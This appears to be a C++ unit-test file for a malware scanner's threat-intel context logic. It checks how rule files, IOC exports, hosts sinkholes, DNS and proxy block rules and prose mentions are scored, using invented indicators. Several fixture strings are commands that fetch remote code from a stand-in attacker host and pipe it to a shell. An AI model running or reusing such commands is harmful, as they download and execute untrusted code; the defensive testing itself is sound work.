// Intel material and blocking contexts (scan/intel_context.h): both sides of
// every rule, with invented indicators (evil.example is no loaded IOC).
#include "scan/intel_context.h"

#include <gtest/gtest.h>

#include <string>

namespace harrier {
namespace {

std::span<const uint8_t> Bytes(const std::string& s) {
  return {reinterpret_cast<const uint8_t*>(s.data()), s.size()};
}

MaterialKind Kind(const std::string& text) {
  return DetectMaterialSyntax(Bytes(text), ContextOptions{}).kind;
}

TEST(IntelContext, RuleSyntaxIsMaterial) {
  EXPECT_EQ(Kind("import \"pe\"\nrule X : tag {\n strings: $a = \"evil.example\"\n condition: $a\n}\n"),
            MaterialKind::kYaraRules);
  EXPECT_EQ(Kind("private rule Y\n{\n condition: true\n}\n"), MaterialKind::kYaraRules);
  EXPECT_EQ(Kind("title: x\nlogsource:\n  product: windows\ndetection:\n  sel: evil.example\n"),
            MaterialKind::kDetectionRules);
  EXPECT_EQ(Kind("alert dns any any -> any any (msg:\"evil.example\"; sid:1000001;)\n"),
            MaterialKind::kDetectionRules);
  // Near-misses: prose that says "rule" and a condition.
  EXPECT_EQ(Kind("The rule of thumb: check evil.example.\nA condition: none.\n"), MaterialKind::kNone);
}

TEST(IntelContext, ExportsAndReportsAreMaterial) {
  EXPECT_EQ(Kind("{\"type\": \"bundle\", \"objects\": []}"), MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("{\"objects\":[{\"type\":\"indicator\",\"pattern\":\"[domain-name:value = 'evil.example']\"}]}"),
            MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("{\"Event\":{\"Attribute\":[{\"value\":\"evil.example\",\"to_ids\":true}]}}"),
            MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("uuid,event_id,category,type,value,to_ids\n1,2,Network,domain,evil.example,1\n"),
            MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("indicator,type,comment\nevil.example,domain,C2\n"), MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("<?xml version=\"1.0\"?><ioc xmlns=\"http://schemas.mandiant.com/2010/ioc\">"),
            MaterialKind::kIntelExport);
  EXPECT_EQ(Kind("host,level,score,path,size,sha256,md5,reasons\r\nh,alert,100,/x,1,a,b,c\r\n"),
            MaterialKind::kHarrierReport);
  EXPECT_EQ(Kind("{\"@timestamp\":\"t\",\"harrier\":{\"schema\":2,\"type\":\"scan_start\"}}\n"),
            MaterialKind::kHarrierReport);
  EXPECT_EQ(Kind("Harrier 0.1.0 on host: scanning /\nSignatures: 33 YARA rules\n\nALERT x\n"),
            MaterialKind::kHarrierReport);
  EXPECT_EQ(Kind("<html><head><meta name=\"generator\" content=\"harrier 0.1.0\">"),
            MaterialKind::kHarrierReport);
  // Near-miss: a CSV with a value column but no type column; a JSON log line.
  EXPECT_EQ(Kind("time,value\n1,evil.example\n2,foo bar\n3,x y\n"), MaterialKind::kNone);
  EXPECT_EQ(Kind("{\"time\":1,\"msg\":\"GET http://evil.example/\"}\n"), MaterialKind::kNone);
}

TEST(IntelContext, IocListSyntax) {
  EXPECT_EQ(Kind("# C2 list\nevil.example;100\nbad.example\n1.2.3.4\n"), MaterialKind::kIocList);
  EXPECT_EQ(Kind("d41d8cd98f00b204e9800998ecf8427e;dropper\n0123456789abcdef0123456789abcdef;x\n"),
            MaterialKind::kIocList);
  EXPECT_EQ(Kind("\\\\evil\\.dll$;80\n/tmp/evil;60;fp\n"), MaterialKind::kIocList);
  EXPECT_EQ(Kind(".evil.example\n.bad.example\n"), MaterialKind::kIocList);  // squid ACL file
  EXPECT_EQ(Kind("||evil.example^\n||bad.example^\n"), MaterialKind::kIocList);
  EXPECT_EQ(Kind("evil[.]example\nhxxps://bad.example/x\n"), MaterialKind::kIocList);
  // Near-misses: one line only; a log; a hosts file (two tokens per line).
  EXPECT_EQ(Kind("evil.example\n"), MaterialKind::kNone);
  EXPECT_EQ(Kind("Mar 1 10:00:00 host curl evil.example\nMar 1 10:00:01 host ok\n"),
            MaterialKind::kNone);
  EXPECT_EQ(Kind("127.0.0.1 localhost\n1.2.3.4 evil.example\n"), MaterialKind::kNone);
  // Mostly prose with two list lines: under the fraction.
  EXPECT_EQ(Kind("We saw\nevil.example\nbad.example\nin the logs of\nthe proxy and\nthe DNS server\n"
                 "yesterday and\ntoday\n"),
            MaterialKind::kNone);
}

TEST(IntelContext, ActivityRecords) {
  EXPECT_TRUE(IsActivityRecord(".bash_history", "/home/a/.bash_history", ""));
  EXPECT_TRUE(IsActivityRecord("History", "/home/a/.config/google-chrome/Default/History", "SQLITE"));
  EXPECT_TRUE(IsActivityRecord("access.log", "/srv/access.log", ""));
  EXPECT_TRUE(IsActivityRecord("access.log.1", "/srv/access.log.1", ""));
  EXPECT_TRUE(IsActivityRecord("current", "/var/log/squid/current", ""));
  EXPECT_TRUE(IsActivityRecord("hosts", "/etc/hosts", ""));
  EXPECT_FALSE(IsActivityRecord("notes.md", "/home/a/notes.md", ""));
  EXPECT_FALSE(IsActivityRecord("c2-iocs.txt", "/opt/sb/iocs/c2-iocs.txt", ""));
  EXPECT_FALSE(IsActivityRecord("blog.txt", "/home/a/catalog/blog.txt", ""));
}

TEST(IntelContext, BlockingContexts) {
  const std::string_view d = "evil.example";
  EXPECT_EQ(BlockingContext("0.0.0.0 evil.example", d, ""), "hosts sinkhole");
  EXPECT_EQ(BlockingContext("127.0.0.1\twww.evil.example evil.example # blocked", d, ""),
            "hosts sinkhole");
  EXPECT_EQ(BlockingContext(":: evil.example", d, ""), "hosts sinkhole");
  EXPECT_EQ(BlockingContext("address=/evil.example/0.0.0.0", d, ""), "dnsmasq address");
  EXPECT_EQ(BlockingContext("address=/a.example/evil.example/", d, ""), "dnsmasq address");
  EXPECT_EQ(BlockingContext("local-zone: \"evil.example.\" always_nxdomain", d, ""),
            "unbound local-zone");
  EXPECT_EQ(BlockingContext("local-data: \"evil.example. A 0.0.0.0\"", d, ""), "unbound local-data");
  EXPECT_EQ(BlockingContext("*.evil.example CNAME .", d, ""), "rpz");
  EXPECT_EQ(BlockingContext("evil.example 300 IN CNAME rpz-drop.", d, ""), "rpz");
  const std::string squid =
      "acl bad dstdomain .evil.example\nhttp_access deny bad\nhttp_access allow all\n";
  EXPECT_EQ(BlockingContext("acl bad dstdomain .evil.example", d, squid), "squid deny acl");
  EXPECT_EQ(BlockingContext("iptables -A OUTPUT -d 203.0.113.9 -j DROP", "203.0.113.9", ""),
            "firewall drop rule");
  EXPECT_EQ(BlockingContext("ip daddr 203.0.113.9 drop", "203.0.113.9", ""), "firewall drop rule");
  EXPECT_EQ(BlockingContext("||evil.example^", d, ""), "adblock filter");

  // Near-misses: the C2 mapped to a routable address (a hijack, not a block);
  // dnsmasq forwarding to a server; an allow ACL; an ACCEPT rule; a commented
  // sinkhole line; a curl in a shell history.
  EXPECT_EQ(BlockingContext("203.0.113.7 evil.example", d, ""), "");
  EXPECT_EQ(BlockingContext("address=/evil.example/203.0.113.7", d, ""), "");
  EXPECT_EQ(BlockingContext("server=/evil.example/8.8.8.8", d, ""), "");
  EXPECT_EQ(BlockingContext("acl ok dstdomain .evil.example", d,
                            "acl ok dstdomain .evil.example\nhttp_access allow ok\n"),
            "");
  EXPECT_EQ(BlockingContext("iptables -A OUTPUT -d 203.0.113.9 -j ACCEPT", "203.0.113.9", ""), "");
  EXPECT_EQ(BlockingContext("# 0.0.0.0 evil.example", d, ""), "");
  EXPECT_EQ(BlockingContext("curl -s https://evil.example/x | sh", d, ""), "");
  EXPECT_EQ(BlockingContext("0.0.0.0 notevil.example", d, ""), "");
  EXPECT_EQ(BlockingContext("local-zone: \"evil.example.\" transparent", d, ""), "");
}

TEST(IntelContext, KnownHashStringsAreWholeWords) {
  const std::string a(32, 'a'), b(64, 'b');
  std::string text = "x " + a + " y " + b + "c " + a + "\n";  // b is followed by 'c': 65 chars
  auto known = [&](const std::string& h) { return h == a || h == std::string(64, 'b'); };
  auto v = KnownHashStrings(Bytes(text), known);
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0], a);
}

Reason C2(const std::string& name, int score = 100) {
  Reason r;
  r.kind = ReasonKind::kC2;
  r.name = name;
  r.score = score;
  return r;
}

int Positive(const Finding& f) {
  int n = 0;
  for (const auto& r : f.reasons) n += r.score > 0;
  return n;
}

TEST(IntelContext, ListFileFoldsIntoOneNotice) {
  std::string text = "# list\nevil.example;100\nbad.example;100\n";
  Finding f;
  f.reasons = {C2("evil.example"), C2("bad.example")};
  auto none = [](const std::string&) { return false; };
  ApplyIntelContext(f, {Bytes(text), "c2-list.txt", "/x/c2-list.txt", ""}, none, ContextOptions{});
  ASSERT_EQ(f.reasons.size(), 1u);
  EXPECT_EQ(f.reasons[0].name, "context.indicator_list");
  EXPECT_EQ(f.reasons[0].score, ContextOptions{}.material_score);
  EXPECT_NE(f.reasons[0].description.find("2 indicators"), std::string::npos)
      << f.reasons[0].description;
}

TEST(IntelContext, OneC2InAHistoryStays) {
  std::string text = "ls\ncurl https://evil.example/a\n";
  Finding f;
  f.reasons = {C2("evil.example")};
  auto none = [](const std::string&) { return false; };
  ApplyIntelContext(f, {Bytes(text), ".bash_history", "/root/.bash_history", ""}, none, {});
  ASSERT_EQ(f.reasons.size(), 1u);
  EXPECT_EQ(f.reasons[0].score, 100);
  // Even many indicators in an activity record stay: a proxy log of many clients.
  std::string log = "GET http://a.example/\nGET http://b.example/\nGET http://c.example/\n"
                    "GET http://d.example/\n";
  Finding g;
  g.reasons = {C2("a.example"), C2("b.example"), C2("c.example"), C2("d.example")};
  ApplyIntelContext(g, {Bytes(log), "access.log", "/var/log/squid/access.log", ""}, none, {});
  EXPECT_EQ(Positive(g), 4);
}

TEST(IntelContext, CollectionThresholdCountsHashValues) {
  const std::string h1(32, '1'), h2(40, '2');
  std::string text = "Notes: we saw a.example, b.example and files " + h1 + " and " + h2 + ".\n";
  auto known = [&](const std::string& h) { return h == h1 || h == h2; };
  Finding f;
  f.reasons = {C2("a.example"), C2("b.example")};
  ApplyIntelContext(f, {Bytes(text), "notes.md", "/home/a/notes.md", ""}, known, {});
  ASSERT_EQ(f.reasons.size(), 1u) << "2 C2 + 2 hash values reach the threshold of 4";
  EXPECT_EQ(f.reasons[0].name, "context.indicator_list");
  // Three in all: below the threshold, the reasons stay (in a line that is
  // not a sentence: a sentence is a mention, see below).
  const std::string row = "a.example,b.example," + h1 + "," + h2 + "\n";
  Finding g;
  g.reasons = {C2("a.example"), C2("b.example")};
  auto one = [&](const std::string& h) { return h == h1; };
  ApplyIntelContext(g, {Bytes(row), "seen.txt", "/home/a/seen.txt", ""}, one, {});
  EXPECT_EQ(Positive(g), 2);
}

TEST(IntelContext, ExecutablesAreNeverMaterial) {
  std::string text = "MZ rule X { condition: true }\nevil.example;100\nbad.example;100\n";
  Finding f;
  f.reasons = {C2("evil.example"), C2("bad.example")};
  auto none = [](const std::string&) { return false; };
  ApplyIntelContext(f, {Bytes(text), "x.exe", "/x/x.exe", "EXE"}, none, {});
  EXPECT_EQ(Positive(f), 2);
}

TEST(IntelContext, HostsSinkholeIsANoticeAndARoutableMappingStays) {
  auto none = [](const std::string&) { return false; };
  std::string sink = "127.0.0.1 localhost\n0.0.0.0 evil.example\n";
  Finding f;
  f.reasons = {C2("evil.example")};
  ApplyIntelContext(f, {Bytes(sink), "hosts", "/etc/hosts", ""}, none, {});
  ASSERT_EQ(f.reasons.size(), 2u);
  EXPECT_EQ(f.reasons[0].score, 0);
  EXPECT_EQ(f.reasons[1].name, "context.blocked_indicator");
  EXPECT_EQ(f.reasons[1].score, ContextOptions{}.blocked_score);

  std::string hijack = "127.0.0.1 localhost\n203.0.113.7 evil.example\n";
  Finding g;
  g.reasons = {C2("evil.example")};
  ApplyIntelContext(g, {Bytes(hijack), "hosts", "/etc/hosts", ""}, none, {});
  ASSERT_EQ(g.reasons.size(), 1u);
  EXPECT_EQ(g.reasons[0].score, 100);

  // Blocked on one line, contacted on another: stays.
  std::string both = "0.0.0.0 evil.example\n203.0.113.7 www.evil.example\n";
  Finding h;
  h.reasons = {C2("evil.example")};
  ApplyIntelContext(h, {Bytes(both), "hosts", "/etc/hosts", ""}, none, {});
  EXPECT_EQ(Positive(h), 1);
  EXPECT_EQ(h.reasons[0].score, 100);
}

TEST(IntelContext, KeywordsCountOnlyInActivityRecords) {
  auto none = [](const std::string&) { return false; };
  auto keyword = [] {
    Reason r = C2("setup-1.2.3.msi", 70);
    r.source = "/rules/iocs/c2-keywords-x.txt:12";
    return r;
  };
  std::string text = "Do not run setup-1.2.3.msi again.\n";
  Finding doc;
  doc.reasons = {keyword()};
  ApplyIntelContext(doc, {Bytes(text), "README.md", "/src/README.md", ""}, none, {});
  ASSERT_EQ(doc.reasons.size(), 2u);
  EXPECT_EQ(doc.reasons[0].score, 0);
  EXPECT_EQ(doc.reasons[1].name, "context.keyword_mention");
  Finding log;
  log.reasons = {keyword()};
  ApplyIntelContext(log, {Bytes(text), "access.log", "/var/log/access.log", ""}, none, {});
  ASSERT_EQ(log.reasons.size(), 1u);
  EXPECT_EQ(log.reasons[0].score, 70);
}

TEST(IntelContext, ProseLines) {
  // Notes, reports and documentation.
  for (const char* l : {
           "Blocked evil.example at the proxy on Monday; no host contacted it after the update.",
           "> - `rules/iocs/c2.txt` 55: 28 actor domains, 23 URLs (GitHub IconStorages icons, "
           "evil.example,",
           ">   evil.example paths…), 4 ESET IPs (2 OpenDrive at 40); not the community IPs, not "
           "raw.example /",
           "3. The stage two payload was fetched from evil.example by the updater on both hosts.",
           "## Why evil.example matters to the people who run the build servers",
       })
    EXPECT_TRUE(IsProseLine(l)) << l;
  // Logs, commands, code, configuration, and too few words.
  for (const char* l : {
           "2023-03-29 10:11:12 connection established to evil.example for the update check now",
           "10.0.0.5 fetched the next stage of the app from evil.example in the morning today",
           "1679999999 the client fetched the next stage of the app from evil.example today",
           "Mar 29 10:11:12 host updater[42]: fetching the next stage from evil.example today",
           "[INFO] the client connected to evil.example and downloaded the next stage of it",
           "client connected at 10:11:12 to evil.example and downloaded the next stage of it",
           "curl -s https://evil.example/x | sh  # fetch the update from the cloud service now",
           "requests.get('https://evil.example/x')  # download the next stage from the server",
           "<a href=\"https://evil.example\">Download the latest version of the app here</a>",
           "server = evil.example  ; the server the client talks to for all of its updates",
           "evil.example 443 tcp",
           "c2: evil.example",
       })
    EXPECT_FALSE(IsProseLine(l)) << l;
}

TEST(IntelContext, IndicatorsMentionedOnlyInSentencesAreANotice) {
  auto none = [](const std::string&) { return false; };
  std::string notes =
      "# 3CX cleanup\n\nThe updater on the build host fetched evil.example and bad.example in March.\n"
      "Both evil.example and bad.example are blocked at the proxy since the vendor's warning.\n";
  Finding f;
  f.reasons = {C2("evil.example"), C2("bad.example")};
  ApplyIntelContext(f, {Bytes(notes), "notes.md", "/home/a/notes.md", ""}, none, {});
  EXPECT_EQ(Positive(f), 1);
  const Reason& m = f.reasons.back();
  EXPECT_EQ(m.name, "context.prose_mention");
  EXPECT_EQ(m.score, ContextOptions{}.mention_score);
  EXPECT_EQ(f.reasons[0].score, 0);
  // Near misses: the same sentences plus one use in code keep that
  // indicator; the same sentences in a mail store or a log stay traces.
  Finding g;
  g.reasons = {C2("evil.example"), C2("bad.example")};
  std::string script = notes + "curl -s https://evil.example/stage2 | sh\n";
  ApplyIntelContext(g, {Bytes(script), "notes.md", "/home/a/notes.md", ""}, none, {});
  EXPECT_EQ(g.reasons[0].score, 100);
  EXPECT_EQ(g.reasons[1].score, 0);
  for (const char* name : {"message.eml", "mbox", "update.log"}) {
    Finding h;
    h.reasons = {C2("evil.example"), C2("bad.example")};
    ApplyIntelContext(h, {Bytes(notes), name, std::string("/home/a/") + name, ""}, none, {});
    EXPECT_EQ(Positive(h), 2) << name;
  }
}

TEST(IntelContext, DisabledChangesNothing) {
  std::string text = "evil.example;100\nbad.example;100\n";
  Finding f;
  f.reasons = {C2("evil.example"), C2("bad.example")};
  ContextOptions o;
  o.enabled = false;
  ApplyIntelContext(f, {Bytes(text), "l.txt", "/l.txt", ""}, [](const std::string&) { return false; }, o);
  EXPECT_EQ(Positive(f), 2);
}

}  // namespace
}  // namespace harrier
